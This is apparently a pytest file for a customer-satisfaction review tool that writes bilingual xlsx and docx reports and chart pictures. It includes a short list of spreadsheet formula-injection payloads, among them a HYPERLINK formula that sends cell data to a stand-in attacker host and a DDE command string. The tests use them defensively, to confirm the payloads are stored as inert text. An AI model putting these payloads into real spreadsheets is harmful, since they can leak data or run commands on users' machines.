"""The review pack's xlsx and docx files and chart pictures, read back as a reader would open them.

Documents are built straight from the model (csat.reports.review.model), in English and Chinese,
with hostile text in a table, empty cells, a chart with a missing round and an empty section.
"""

from __future__ import annotations

import dataclasses
import struct
import zlib
from pathlib import Path

import pytest

from csat import fonts
from csat.i18n import in_language
from csat.reports.review import docx as docx_writer
from csat.reports.review import pictures
from csat.reports.review import xlsx as xlsx_writer
from csat.reports.review.model import (
    BuiltFrom,
    Chart,
    Paragraph,
    ReviewDocument,
    Section,
    Series,
    Table,
    content_hash,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


def make_document(lang: str) -> ReviewDocument:
    zh = lang == "zh"
    rows = [[HOSTILE[0], 88.25, 3], [HOSTILE[1], None, 0], [HOSTILE[2], 91.0, None], [HOSTILE[3], 85, 1]]
    table = Table("需要关注的客户" if zh else "Customers needing attention",
                  ["客户" if zh else "Customer", "平均值" if zh else "Mean", "投诉" if zh else "Complaints"],
                  rows, note="均值保留一位小数" if zh else "Means to one decimal", digits=1)
    chart = Chart("交货及时性" if zh else "On-time delivery", ["2023H2", "2024H1", "2024H2"],
                  [Series("平均值" if zh else "Mean", [88.2, None, 84.1], 85.0)], "平均值" if zh else "Mean")
    sections = [
        Section("survey", "调查结果" if zh else "Survey results",
                [Paragraph("客户满意度指数 86.0" if zh else "CSI 86.0, up 1.2 from 2024H1"), table, chart]),
        Section("feedback", "反馈与投诉" if zh else "Feedback and complaints", []),
        Section("capa", "Corrective actions: [open]*?/\\" if not zh else "纠正措施：[未关闭]*?/\\",
                [Paragraph("无" if zh else "None opened")]),
    ]
    digest = content_hash(sections)
    built = BuiltFrom("2024H2", ["2024H1", "2024H2"], 12, 3, "2024-12-01 10:00:00", "0.9.0", "2024-12-02 08:00:00",
                      content_hash=digest)
    return ReviewDocument("管理评审输入 2024H2" if zh else "Management review 2024H2", "2024H2", lang,
                          f"REV-2024H2-{digest[:8]}", sections, built)


def _needs_chinese_font():
    if fonts.chinese_font() is None:
        pytest.skip("no CJK font on this machine (apt-get install fonts-wqy-microhei; .ci/run installs it)")


# ---- xlsx ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("lang", ["en", "zh"])
def test_xlsx_sheets_cells_and_charts(tmp_path: Path, lang: str):
    from openpyxl import load_workbook

    document = make_document(lang)
    path = xlsx_writer.write(document, tmp_path / "review.xlsx")
    workbook = load_workbook(path)
    survey_title = document.sections[0].title
    assert workbook.sheetnames[0] == survey_title
    assert workbook.sheetnames[1] == document.sections[1].title          # the empty section still has its sheet
    assert len(workbook.sheetnames) == 4                                  # 3 sections + built from
    for sheet in workbook:
        assert len(sheet.title) <= 31 and not set(sheet.title) & set("[]:*?/\\")
        assert int(sheet.page_setup.paperSize) == 9                      # A4
        assert document.record_number in sheet.oddFooter.left.text
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"

    survey = workbook[survey_title]
    cells = {cell.value: cell for row in survey.iter_rows() for cell in row if cell.value is not None}
    for text in HOSTILE:
        assert cells[text].data_type == "s"                              # exactly the text, as text
    row = cells[HOSTILE[0]].row
    mean, complaints = survey.cell(row, 2), survey.cell(row, 3)
    assert (mean.value, mean.data_type, mean.number_format) == (88.25, "n", "0.0")
    assert (complaints.value, complaints.data_type) == (3, "n")
    assert survey.cell(cells[HOSTILE[1]].row, 2).value is None          # None stays an empty cell
    assert survey.cell(cells[HOSTILE[2]].row, 3).value is None

    (chart,) = survey._charts
    names = [series.tx.v for series in chart.series]
    assert names == ["平均值", "行动限"] if lang == "zh" else names == ["Mean", "Action limit"]
    assert chart.display_blanks == "gap"
    mean_reference = chart.series[0].val.numRef.f
    mean_values = [cell.value for (cell,) in survey[mean_reference.split("!")[1].replace("$", "")]]
    assert mean_values == [88.2, None, 84.1]                             # the missing round is a gap, not 0
    limit_reference = chart.series[1].val.numRef.f
    assert [cell.value for (cell,) in survey[limit_reference.split("!")[1].replace("$", "")]] == [85, 85, 85]
    assert "2023H2" in chart.series[0].cat.strRef.f or chart.series[0].cat.strRef is not None

    built = workbook[workbook.sheetnames[-1]]
    shown = [cell.value for row in built.iter_rows() for cell in row]
    assert document.record_number in shown and document.built_from.content_hash in shown
    assert 12 in shown and 3 in shown                                    # counts as numbers


def test_xlsx_keeps_the_gathered_built_from_section(tmp_path: Path):
    from openpyxl import load_workbook

    document = make_document("en")
    block = Table("Built from", ["Figure", "Value"], [["Record number", document.record_number],
                                                     ["Content hash (SHA-256)", document.built_from.content_hash]])
    document = dataclasses.replace(document, sections=[Section("built_from", "Built from", [block]), *document.sections])
    workbook = load_workbook(xlsx_writer.write(document, tmp_path / "review.xlsx"))
    assert workbook.sheetnames[-1] == "Built from" and workbook.sheetnames.count("Built from") == 1


def test_sheet_names_are_safe_and_unique():
    names = xlsx_writer.sheet_names(["A" * 40, "A" * 40, "a" * 40, "Q1: [x]*?/\\", "", "History", "'quoted'",
                                     "客户" * 20])
    assert all(0 < len(name) <= 31 for name in names)
    assert len({name.casefold() for name in names}) == len(names)
    assert names[3] == "Q1 x" and names[4] == "Sheet 5" and names[5] != "History" and names[6] == "quoted"
    assert names[7] == "客户" * 15 + "客"


# ---- docx ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("lang", ["en", "zh"])
def test_docx_headings_tables_pictures_footer(tmp_path: Path, lang: str):
    import docx
    from docx.oxml.ns import qn
    if lang == "zh":
        _needs_chinese_font()
    document = make_document(lang)
    path = docx_writer.write(document, tmp_path / "review.docx")
    word = docx.Document(str(path))
    headings = [paragraph.text for paragraph in word.paragraphs if paragraph.style.name == "Heading 1"]
    assert headings == [section.title for section in document.sections] + [in_language(lang, "Built from")]
    assert word.paragraphs[0].text == document.title
    texts = [paragraph.text for paragraph in word.paragraphs]
    assert document.sections[0].blocks[0].text in texts

    table = word.tables[0]
    assert [cell.text for cell in table.rows[0].cells] == document.sections[0].blocks[1].columns
    assert [cell.text for cell in table.rows[1].cells] == [HOSTILE[0], "88.3", "3"]   # digits=1, as Excel shows it
    assert [cell.text for cell in table.rows[2].cells] == [HOSTILE[1], "–", "0"]
    assert [cell.text for cell in table.rows[4].cells] == [HOSTILE[3], "85", "1"]
    built_rows = {row.cells[0].text: row.cells[1].text for row in word.tables[-1].rows}
    assert document.record_number in built_rows.values()
    assert document.built_from.content_hash in built_rows.values()

    assert len(word.inline_shapes) == 1                                   # the one chart, as a picture
    section = word.sections[0]
    assert round(section.page_width.mm) == 210 and round(section.page_height.mm) == 297   # A4 (stored in twips)
    footer = section.footer
    assert document.record_number in footer.paragraphs[0].text
    instructions = [element.text.strip() for element in footer._element.iter(qn("w:instrText"))]
    assert instructions == ["PAGE", "NUMPAGES"]
    runs = list(word.element.body.iter(qn("w:r")))
    assert runs and all(run.find(qn("w:rPr")).find(qn("w:rFonts")).get(qn("w:eastAsia")) for run in runs
                        if run.find(qn("w:t")) is not None)
    if lang == "zh":
        assert word.styles["Normal"].element.rPr.find(qn("w:lang")).get(qn("w:eastAsia")) == "zh-CN"


def test_docx_refuses_boxes_when_no_font_draws_chinese(tmp_path: Path, monkeypatch):
    from csat.i18n import use_language

    not_a_font = tmp_path / "not-a-font.ttf"
    not_a_font.write_text("plain text")
    monkeypatch.setenv(fonts.FONT_ENV, str(not_a_font))
    monkeypatch.setenv("CSAT_CHART_FONT_ONLY", "1")                     # as on a machine with no other font
    target = tmp_path / "review.docx"
    with use_language("en"), pytest.raises(pictures.FontMissing) as raised:
        docx_writer.write(make_document("zh"), target)
    message = str(raised.value)
    assert "\n" not in message and "fonts-wqy-microhei" in message and fonts.FONT_ENV in message
    assert "交货及时性"[:1] in message
    assert not target.exists() and not list(tmp_path.glob(".review.docx.*"))


# ---- pictures ------------------------------------------------------------------------------------

def _png_size(data: bytes) -> tuple[int, int]:
    """Width and height of a PNG, after checking every chunk's CRC and inflating the image data."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    position, image, size = 8, b"", None
    while position < len(data):
        (length,) = struct.unpack(">I", data[position:position + 4])
        kind = data[position + 4:position + 8]
        body = data[position + 8:position + 8 + length]
        (crc,) = struct.unpack(">I", data[position + 8 + length:position + 12 + length])
        assert zlib.crc32(kind + body) == crc
        if kind == b"IHDR":
            size = struct.unpack(">II", body[:8])
        elif kind == b"IDAT":
            image += body
        position += 12 + length
    width, height = size
    assert len(zlib.decompress(image)) >= width * height       # at least one byte a pixel: the whole picture
    return width, height


def test_png_of_an_english_chart_with_a_missing_value():
    chart = make_document("en").sections[0].blocks[2]
    if fonts.font_for("".join(pictures.texts(chart, "en"))) is None:
        pytest.skip("no font on this machine draws Latin text")
    assert _png_size(pictures.png(chart, "en")) == (pictures.WIDTH * pictures.ZOOM, pictures.HEIGHT * pictures.ZOOM)
    empty = Chart("No rounds", [], [Series("Mean", [], None)])
    assert _png_size(pictures.png(empty, "en"))


def test_png_of_a_chinese_chart_uses_a_font_with_its_characters():
    _needs_chinese_font()
    chart = make_document("zh").sections[0].blocks[2]
    text = "".join(pictures.texts(chart, "zh"))
    assert "行动限" in text and "交货及时性" in text
    font = pictures.choose_font(chart, "zh")
    assert font.missing(text) == ""
    assert all(ord(character) in font.characters for character in "交货及时性平均值行动限")
    svg = pictures.svg(chart, "zh", font.family)
    assert "交货及时性" in svg and f'font-family="{font.family}"' in svg
    assert _png_size(pictures.png(chart, "zh"))


# ---- doctor --------------------------------------------------------------------------------------

def test_doctor_names_the_chart_font_or_warns_before_the_meeting(workspace, cli, tmp_path: Path, monkeypatch):
    if fonts.chinese_font() is not None:
        result = cli("doctor")
        assert "ok   charts" in result.stderr and str(fonts.chinese_font().path) in result.stderr
    not_a_font = tmp_path / "not-a-font.ttf"
    not_a_font.write_text("plain text")
    monkeypatch.setenv(fonts.FONT_ENV, str(not_a_font))
    result = cli("doctor")
    line = next(line for line in result.stderr.splitlines() if "charts" in line)
    assert line.startswith("warn charts") and str(not_a_font) in line and "not a font" in line
    monkeypatch.delenv(fonts.FONT_ENV)
    monkeypatch.setenv("CSAT_CHART_FONT_ONLY", "1")                     # as on a machine with no font at all
    result = cli("doctor")
    line = next(line for line in result.stderr.splitlines() if "charts" in line)
    assert line.startswith("warn charts") and fonts.PACKAGE_HINT in line and fonts.FONT_ENV in line
